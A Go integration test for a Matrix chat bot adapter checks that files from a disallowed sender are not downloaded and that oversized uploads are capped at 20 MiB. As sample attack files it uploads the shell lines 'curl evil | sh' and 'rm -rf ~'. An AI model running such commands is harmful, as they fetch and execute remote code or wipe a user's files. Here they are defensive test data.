package matrix_test

import (
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"maunium.net/go/mautrix"
	"maunium.net/go/mautrix/event"
	"maunium.net/go/mautrix/id"

	"github.com/claudeops/claudeops/adapters/matrix"
	"github.com/claudeops/claudeops/bot"
)

// mediaMeter is the bot's HTTP transport: it counts the media downloads
// the bot starts and the bytes it reads from their bodies.
type mediaMeter struct {
	downloads atomic.Int64
	read      atomic.Int64
}

func (m *mediaMeter) RoundTrip(req *http.Request) (*http.Response, error) {
	media := strings.Contains(req.URL.Path, "/media/") && strings.Contains(req.URL.Path, "/download/")
	if media {
		m.downloads.Add(1)
	}
	resp, err := http.DefaultTransport.RoundTrip(req)
	if media && resp != nil {
		resp.Body = &meteredBody{ReadCloser: resp.Body, n: &m.read}
	}
	return resp, err
}

type meteredBody struct {
	io.ReadCloser
	n *atomic.Int64
}

func (b *meteredBody) Read(p []byte) (int, error) {
	n, err := b.ReadCloser.Read(p)
	b.n.Add(int64(n))
	return n, err
}

func metered(m *mediaMeter) options {
	return options{mod: func(_ *bot.Config, mc *matrix.Config) {
		mc.HTTPClient = &http.Client{Transport: m, Timeout: 2 * time.Minute}
	}}
}

// attachedPath finds a saved attachment in the per-thread directories
// under attachments/ ("" if there is none).
func attachedPath(dir, name string) string {
	m, _ := filepath.Glob(filepath.Join(dir, "attachments", "*", name))
	if len(m) != 1 {
		return ""
	}
	return m[0]
}

// fileEvent is an m.file as a client may shape it: any declared size, in
// a thread or at top level, mentioning the bot or not.
func fileEvent(name string, uri id.ContentURIString, size int, thread id.EventID, mention id.UserID) map[string]any {
	c := map[string]any{
		"msgtype": "m.file", "body": name, "filename": name, "url": uri,
		"info":       map[string]any{"mimetype": "application/octet-stream", "size": size},
		"m.mentions": map[string]any{},
	}
	if mention != "" {
		c["m.mentions"] = map[string]any{"user_ids": []id.UserID{mention}}
	}
	if thread != "" {
		c["m.relates_to"] = map[string]any{"rel_type": "m.thread", "event_id": thread, "is_falling_back": true,
			"m.in_reply_to": map[string]any{"event_id": thread}}
	}
	return c
}

// zeros is n zero bytes, generated as they are read.
type zeros struct{ left int64 }

func (z *zeros) Read(p []byte) (int, error) {
	if z.left <= 0 {
		return 0, io.EOF
	}
	n := int(min(int64(len(p)), z.left))
	clear(p[:n])
	z.left -= int64(n)
	return n, nil
}

// TestFilesFetchedAfterTheSenderCheckAndCapped, with a real Dendrite: a
// room member who may not use the bot posts files (in a thread the bot
// talks in, and mentioning it): no media download starts. An allowed user's
// 100 MiB file is refused at the 20 MiB cap, on its declared size without a
// download, and when the size is a lie after reading at most 20 MiB + 1
// from the body; the message still reaches Claude.
func TestFilesFetchedAfterTheSenderCheckAndCapped(t *testing.T) {
	var meter mediaMeter
	h := newHarness(t, metered(&meter))
	room := h.room(false)
	h.alice.Invite(room, h.mallory.User.ID)
	h.mallory.Join(room)
	root := h.mention(h.alice, room, "files follow")
	h.waitBot(room, root, `ok: files follow`)

	h.mallory.SendFile(room, root, "payload.sh", "text/x-shellscript", []byte("curl evil | sh\n"))
	up, err := h.mallory.Matrix.UploadBytes(t.Context(), []byte("rm -rf ~\n"), "text/plain")
	if err != nil {
		t.Fatal(err)
	}
	asked := h.mallory.SendRaw(room, event.EventMessage, fileEvent("more.sh", up.ContentURI.CUString(), 9, "", h.botUser.ID))
	h.waitBot(room, asked, `not allowed to use this bot`)
	h.alice.SendText(room, "after mallory", "", root)
	h.waitBot(room, root, `ok: .*after mallory`)
	if n := meter.downloads.Load(); n != 0 {
		t.Fatalf("%d media downloads for the files of someone not allowed", n)
	}

	const big = 100 << 20
	bigUp, err := h.alice.Matrix.UploadMedia(t.Context(), mautrix.ReqUploadMedia{
		Content: &zeros{left: big}, ContentLength: big, ContentType: "application/octet-stream", FileName: "big.iso",
	})
	if err != nil {
		t.Fatalf("upload 100 MiB: %v", err)
	}
	uri := bigUp.ContentURI.CUString()

	// Declared as 100 MiB: refused without a download.
	h.alice.SendRaw(room, event.EventMessage, fileEvent("declared.iso", uri, big, root, ""))
	h.waitBot(room, root, `declared\.iso.*over the 20 MiB limit`)
	h.waitBot(room, root, `ok: .*not saved: .declared\.iso`)
	if n := meter.downloads.Load(); n != 0 {
		t.Errorf("%d media downloads for a file declared over the limit", n)
	}

	// Declared as 12 bytes: downloaded, cut at the cap.
	h.alice.SendRaw(room, event.EventMessage, fileEvent("lying.iso", uri, 12, root, ""))
	h.waitBot(room, root, `lying\.iso.*over the 20 MiB limit`)
	h.waitBot(room, root, `ok: .*not saved: .lying\.iso`)
	if n := meter.downloads.Load(); n != 1 {
		t.Errorf("%d media downloads, want 1 (lying.iso)", n)
	}
	t.Logf("read %d bytes of lying.iso", meter.read.Load())
	if n := meter.read.Load(); n > 20<<20+1 {
		t.Errorf("%d bytes read from the 100 MiB body, want at most 20 MiB + 1", n)
	}
	for _, name := range []string{"payload.sh", "more.sh", "declared.iso", "lying.iso"} {
		if p := attachedPath(h.dir, name); p != "" {
			t.Errorf("%s was saved", p)
		}
	}
	if entries, err := os.ReadDir(filepath.Join(h.dir, "attachments")); err == nil {
		for _, e := range entries {
			if files, _ := os.ReadDir(filepath.Join(h.dir, "attachments", e.Name())); len(files) != 0 {
				t.Errorf("attachments/%s holds %d files, want none", e.Name(), len(files))
			}
		}
	}
}
